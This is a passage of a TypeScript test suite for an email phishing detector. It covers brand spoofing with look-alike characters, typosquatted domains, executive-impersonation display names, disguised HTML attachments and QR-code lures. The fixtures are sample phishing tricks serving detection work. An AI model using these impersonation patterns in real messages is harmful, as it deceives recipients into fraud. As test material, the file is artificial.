  expect(from("Micro\u2060soft 365")).toBe(true);
  expect(from("Pay\u200b Pals Club")).toBe(false); // the visible words decide: "Pay Pals" is not PayPal
});

test("a brand name spelt with look-alike letters of another script, fullwidth or accented, is still the brand; a name in that script is not", () => {
  const from = (name: string) => phishingSymbols(parsed({ headers: { From: `"${name}" <alerts@example.org>` } })).has("FROM_BRAND_IMPERSONATION");
  expect(from("\u0420ay\u0420al Support")).toBe(true); // Cyrillic Р
  expect(from("Micr\u03bfsoft Account Team")).toBe(true); // Greek ο
  expect(from("\uff30\uff41\uff59\uff30\uff41\uff4c")).toBe(true); // fullwidth ＰａｙＰａｌ
  expect(from("P\u00e0yp\u00e0l")).toBe(true);
  expect(from("\u0421\u0435\u0440\u0433\u0435\u0439 \u0418\u0432\u0430\u043d\u043e\u0432")).toBe(false); // Сергей Иванов: a Russian name, no Latin brand (Сбербанк is a brand of its own now)
  expect(from("Jos\u00e9 Garc\u00eda")).toBe(false);
  expect(foldLookalikes("Microsoft 365")).toBe("Microsoft 365"); // ASCII as written
});

test("domainShown agrees with the regex it replaced on random texts within DNS's bounds", () => {
  const OLD = /(?:https?:\/\/)?((?:[a-z0-9-]+\.)+[a-z]{2,24})(?![\w.-])/i;
  const r = intRng(20261202);
  const alphabet = "aBzabc19-..._ :/";
  let named = 0;
  for (let i = 0; i < 20_000; i++) {
    const text = Array.from({ length: r(40) }, () => alphabet[r(alphabet.length)]).join("");
    const want = OLD.exec(text)?.[1];
    expect([text, domainShown(text)]).toEqual([text, want]);
    if (want) named++;
  }
  expect(named).toBeGreaterThan(1000); // 1 742 of them: the texts do name domains, not only miss them
  for (const [text, want] of [["www.PayPal.com", "www.PayPal.com"], ["https://secure.example.co.uk/login", "secure.example.co.uk"], ["click here", undefined], ["a_b.example.org", "b.example.org"], ["x.abcdefghijklmnopqrstuvwxyz", undefined], [`${"a".repeat(70)}.com`, `${"a".repeat(63)}.com`]] as const) expect(domainShown(text)).toBe(want);
});

test("a link text or display name of one long run costs linear time (fuzz:mime found 0.6 s for 64 KB of \"-\" in an anchor)", () => {
  const runs = ["-".repeat(65_536), `${"a".repeat(62)}.`.repeat(1_040) + "-_", "a.".repeat(32_768) + "_", `${"1".repeat(62)}.`.repeat(1_040) + "x"];
  const anchors = runs.map((t) => `<a href="http://evil.example/">${t}</a>`).join("\n");
  const name = `${"a".repeat(62)}@`.repeat(500) + "x";
  const raw = new TextEncoder().encode(`From: "${name}" <a@b.example>\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n<html><body>${anchors}<a href="http://evil.example/">www.paypal.com</a></body></html>\r\n`);
  const msg = parseMessageSync(raw, defaults().scan);
  const t0 = performance.now();
  for (const t of runs) domainShown(t);
  const got = phishingSymbols(msg);
  expect(performance.now() - t0).toBeLessThan(300);
  // The long runs named nothing; the link after them is still judged.
  expect([...got]).toContain("URI_TEXT_BRAND_MISMATCH");
});

test("a domain spelt like the recipient's own: confusables, one edit; not the same name elsewhere or as a word of a longer one, not a short name", () => {
  for (const [d, own] of [["exarnple.com", "example.com"], ["examp1e.com", "example.com"], ["exampie.net", "example.com"], ["acmecorpp.com", "acmecorp.com"], ["acrne.com", "acme.com"], ["xn--exmple-4uf.com", "example.com"]])
    expect({ d, own, imitates: imitatesOwn(d, own) }).toEqual({ d, own, imitates: true });
  for (const [d, own] of [["example.com", "example.com"], ["example.org", "example.com"], ["example.co.uk", "example.com"], ["sample.com", "example.com"], ["ibn.com", "ibm.com"], ["acme-payroll.com", "acme.com"], ["acmecorp-events.com", "acmecorp.com"], ["gmail.com", "example.com"], ["examples-of-life.org", "example.com"]])
    expect({ d, own, imitates: imitatesOwn(d, own) }).toEqual({ d, own, imitates: false });
});

test("the recipient's domain comes from the envelope, else from the To field; mail from the same name under another suffix is not flagged", () => {
  const msg = (from: string, to: string, body = "Hello") => parseMessageSync(new TextEncoder().encode(`From: ${from}\r\nTo: ${to}\r\nSubject: s\r\n\r\n${body}\r\n`), defaults().scan);
  const lookalike = (m: ReturnType<typeof msg>, rcpt?: string[]) => [...phishingSymbols(m, rcpt)].filter((s) => s.endsWith("_LOOKALIKE_RCPT")).sort();
  // The envelope wins over the To field (a Bcc copy, a list): here it names another company.
  expect(lookalike(msg("<a@exarnple.com>", "x@example.com"), ["y@other.test"])).toEqual([]);
  expect(lookalike(msg("<a@exarnple.com>", "x@other.test"), ["y@example.com"])).toEqual(["FROM_LOOKALIKE_RCPT"]);
  // Without an envelope (kas scan of a file, kas filter without --rcpt): the To field's addresses, quoted commas and all.
  expect(lookalike(msg("<a@exarnple.com>", '"Lee, Jordan" <user@example.com>, b@other.test'))).toEqual(["FROM_LOOKALIKE_RCPT"]);
  expect(lookalike(msg("News <news@example.org>", "user@example.com", "See https://example.org/news and https://www.example.com/"), ["user@example.com"])).toEqual([]);
  expect(lookalike(msg("<a@vendor.test>", "user@example.com", "Log in at https://login.examp1e.com/start"), ["user@example.com"])).toEqual(["URI_LOOKALIKE_RCPT"]);
});

test("a display name showing an address of the recipient's own domain, on mail from outside it, is a colleague claimed; a list quoting the writer and the colleague's own mail are not", () => {
  const msg = (from: string) => parseMessageSync(new TextEncoder().encode(`From: ${from}\r\nTo: user@example.com\r\nSubject: s\r\n\r\nHello\r\n`), defaults().scan);
  const claimed = (from: string, rcpt = ["user@example.com"]) => phishingSymbols(msg(from), rcpt).has("FROM_NAME_RCPT_DOMAIN");
  expect(claimed('"jane.doe@example.com" <jane.doe.office@gmail.com>')).toBe(true);
  expect(claimed('"Jane Doe (jane.doe@mail.example.com)" <jd8812@outlook.example>')).toBe(true); // a subdomain is the same organisation
  expect(claimed('"jane.doe@example.com" <jane.doe.office@gmail.com>', ["user@other.test"])).toBe(false); // not this recipient's domain
  expect(claimed("\"'jane.doe@example.com' via Staff\" <staff@googlegroups.com>")).toBe(false); // Google Groups' DMARC rewriting
  expect(claimed('"jane.doe@example.com" <jane.doe@example.com>')).toBe(false); // her own mailbox
  expect(claimed('"support@vendor.test" <help@mailer.example.net>')).toBe(false); // another company's address: FROM_NAME_OTHER_DOMAIN only
  expect(phishingSymbols(msg('"support@vendor.test" <help@mailer.example.net>'), ["user@example.com"]).has("FROM_NAME_OTHER_DOMAIN")).toBe(true);
});

test("an HTML or SVG page named as a document, picture or recording is named; an ordinary page or document is not", () => {
  const withFile = (name: string, type = "text/html") =>
    phishingSymbols(parseMessageSync(new TextEncoder().encode(`From: a@example.net\r\nTo: u@example.com\r\nSubject: s\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n--b\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n<html><body>x</body></html>\r\n--b--\r\n`), defaults().scan));
  for (const name of ["Invoice_4471.pdf.html", "Remittance.PDF.htm", "VM_0412.wav.html", "Q4 payroll.xlsx .shtml", "scan.jpg.svg", "message.eml.html"]) expect({ name, named: withFile(name).has("ATTACH_HTML_DOC_NAME") }).toEqual({ name, named: true });
  for (const name of ["newsletter.html", "report.pdf", "index.htm", "chart.svg", "pdf.html"]) expect({ name, named: withFile(name, name.endsWith(".pdf") ? "application/pdf" : "text/html").has("ATTACH_HTML_DOC_NAME") }).toEqual({ name, named: false });
});

test("the carrier's own duty bill and the cloud service's own storage warning are lures in words only: no phishing combination", async () => {
  const mail = (from: string, subject: string, html: string) =>
    new TextEncoder().encode(`From: ${from}\nTo: user@example.com\nSubject: ${subject}\nDate: Thu, 03 Dec 2026 10:00:00 +0000\nMessage-ID: <n-1@x.example>\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n<html><body>${html}</body></html>\n`);
  const duty = await scan(engine, { id: "duty", envelope: { rcpt: ["user@example.com"] }, raw: mail('"DHL Express" <noreply@dhl.com>', "Import duties for your shipment", '<p>Your shipment 1234567890 is on hold at customs. Import duties of EUR 12.40 are due before delivery.</p><p><a href="https://mydhl.express.dhl/pay?awb=1234567890">Pay duties and taxes</a></p>') });
  const storage = await scan(engine, { id: "storage", envelope: { rcpt: ["user@example.com"] }, raw: mail('"Google" <no-reply@accounts.google.com>', "Your Google storage is full", '<p>Your Google Account storage is full. New photos and files will not be backed up, and emails sent to you will be returned to the sender.</p><p><a href="https://one.google.com/storage">Get more storage</a></p>') });
  for (const r of [duty, storage]) {
    expect(r.hits.map((h) => h.name).filter((n) => n.startsWith("PHISH_"))).toEqual([]);
    expect(r.status).toBe("not_detected");
  }
});

test("link text showing an advertised shop's domain with a click tracker behind it is a domain mismatch, not a brand lie; a bank's is a brand lie", () => {
  const links = (text: string) => [...phishingSymbols({ ...parsed({ headers: { From: '"Deals" <news@deals.example>' } }), links: [{ href: "https://click.tracker.example/c/123", text }] })].filter((x) => x.startsWith("URI_TEXT")).sort();
  expect(links("www.walmart.com")).toEqual(["URI_TEXT_DOMAIN_MISMATCH"]);
  expect(links("Booking.com")).toEqual(["URI_TEXT_DOMAIN_MISMATCH"]);
  expect(links("www.hsbc.co.uk")).toEqual(["URI_TEXT_BRAND_MISMATCH", "URI_TEXT_DOMAIN_MISMATCH"]);
});

test("Reply-To at a cousin of the sender's, the recipient's or a brand's domain; not the same name under another suffix, not a free mailbox (its own sign), not the sender's own domain", () => {
  const reply = (from: string, replyTo: string) => [...phishingSymbols(parseMessageSync(new TextEncoder().encode(`From: ${from}\r\nReply-To: ${replyTo}\r\nTo: ap@example.com\r\nSubject: s\r\n\r\nHello\r\n`), defaults().scan), ["ap@example.com"])].filter((x) => x.includes("REPLYTO")).sort();
  expect(reply("anna@nordvik-supply.com", "anna@nordvik-suppiy.com")).toEqual(["REPLYTO_LOOKALIKE"]);
  expect(reply("ceo@example.com", "ceo@exarnple.com")).toEqual(["REPLYTO_LOOKALIKE"]);
  expect(reply("billing@vendor.test", "billing@paypa1.com")).toEqual(["REPLYTO_LOOKALIKE"]);
  expect(reply("anna@nordvik-supply.com", "anna@nordvik-supply.co.uk")).toEqual([]);
  expect(reply("news@shop.com", "support@shop-help.com")).toEqual([]);
  expect(reply("anna@nordvik-supply.com", "anna.b@gmail.com")).toEqual(["FREEMAIL_REPLYTO_OTHER", "REPLYTO_FREEMAIL"]);
  // Regional webmail anyone can open (libero.it, seznam.cz, foxmail.com); not an Internet provider's customer mailbox.
  for (const free of ["anna.b@libero.it", "anna.b@seznam.cz", "anna.b@foxmail.com"]) expect({ free, got: reply("anna@nordvik-supply.com", free) }).toEqual({ free, got: ["FREEMAIL_REPLYTO_OTHER", "REPLYTO_FREEMAIL"] });
  expect(reply("anna@nordvik-supply.com", "anna.b@t-online.de")).toEqual([]);
  // A provider's service under its domain is not a mailbox anyone opened: a Yahoo or MSN group's list address.
  expect(reply("joy@example.org", "OneIncome@groups.msn.com")).toEqual([]);
  expect(reply("anna@mail.nordvik-supply.com", "anna@nordvik-supply.com")).toEqual([]);
});

test("FROM_EXEC_FREEMAIL: an office claimed by title on a free mailbox, in English and in the languages payment fraud is written in; not a title on a company's own address, not a plain name", () => {
  const exec = (from: string) => phishingSymbols(parseMessageSync(new TextEncoder().encode(`From: ${from}\r\nTo: ap@example.com\r\nSubject: s\r\n\r\nHello\r\n`), defaults().scan), ["ap@example.com"]).has("FROM_EXEC_FREEMAIL");
  for (const f of ['"Michael Turner - CEO" <mt.office@gmail.com>', '"Philippe Moreau - Directeur" <pdg.office@gmail.com>', '"Jürgen Weber, Geschäftsführer" <jw.gf@gmx.de>', '"Laura Bianchi - Amministratore Delegato" <lb.ad@libero.it>', '"PDG" <pdg@outlook.fr>', '"Ana Ruiz (Directora)" <ana.ruiz@hotmail.es>']) expect({ f, got: exec(f) }).toEqual({ f, got: true });
  for (const f of ['"Philippe Moreau - Directeur" <p.moreau@acme-industrie.fr>', '"Philippe Moreau" <pm1962@gmail.com>', '"Direction des ventes" <ventes.promo@gmail.com>']) expect({ f, got: exec(f) }).toEqual({ f, got: false });
});

test("FROM_FREEMAIL and REPLYTO_FREEMAIL: one list of free mailboxes, today's and 2002's, regional webmail too; never a company's own domain or a host under a provider's", () => {
  const free = (from: string) => [...phishingSymbols(parseMessageSync(new TextEncoder().encode(`From: Sam <${from}>\r\nReply-To: ${from}\r\nTo: ap@example.com\r\nSubject: s\r\n\r\nHello\r\n`), defaults().scan), ["ap@example.com"])].filter((x) => x.endsWith("_FREEMAIL")).sort();
  for (const a of ["sam@gmail.com", "sam@outlook.com", "sam@icloud.com", "sam@proton.me", "sam@gmx.de", "sam@mail.ru", "sam@yahoo.co.uk", "sam@hotmail.com", "sam@juno.com", "sam@libero.it", "sam@wp.pl", "SAM@GMAIL.COM"]) {
    expect({ a, got: free(a) }).toEqual({ a, got: ["FROM_FREEMAIL", "REPLYTO_FREEMAIL"] });
  }
  for (const a of ["sam@example.com", "sam@gmail.com.example.net", "sam@notgmail.com", "sam@me.example.org", "news@reply.yahoo.com", "list@groups.msn.com", "sam@t-online.de", "gmail.com"]) expect({ a, got: free(a) }).toEqual({ a, got: [] });
});

test("a QR code drawn with full blocks, two characters a module, in plain text is read too", async () => {
  // The half-block fixture's modules, written again as "██" pairs a module and one line a row.
  const text = new TextDecoder().decode(raw("qr-block-text.eml"));
  const lines = text.slice(text.indexOf("<pre"), text.indexOf("</pre>")).split("\n").slice(1).filter((l) => /[█▀▄]/.test(l));
  const rows: string[] = [];
  for (const l of lines) for (const half of ["▀", "▄"]) rows.push([...l].map((c) => (c === "█" || c === half ? "██" : "  ")).join(""));
  const mail = new TextEncoder().encode(`From: "HR" <hr@staff-portal-mail.example>\nTo: user@example.com\nSubject: Benefits\nContent-Type: text/plain; charset=utf-8\n\nScan the QR code below with your phone camera.\n\n${rows.join("\n")}\n`);
  const r = await scan(engine, { id: "full-blocks", envelope: { rcpt: ["user@example.com"] }, raw: mail });
  expect(r.hits.map((h) => h.name)).toEqual(expect.arrayContaining(["QR_CODE_URL", "QR_URI_SUSPICIOUS"]));
});
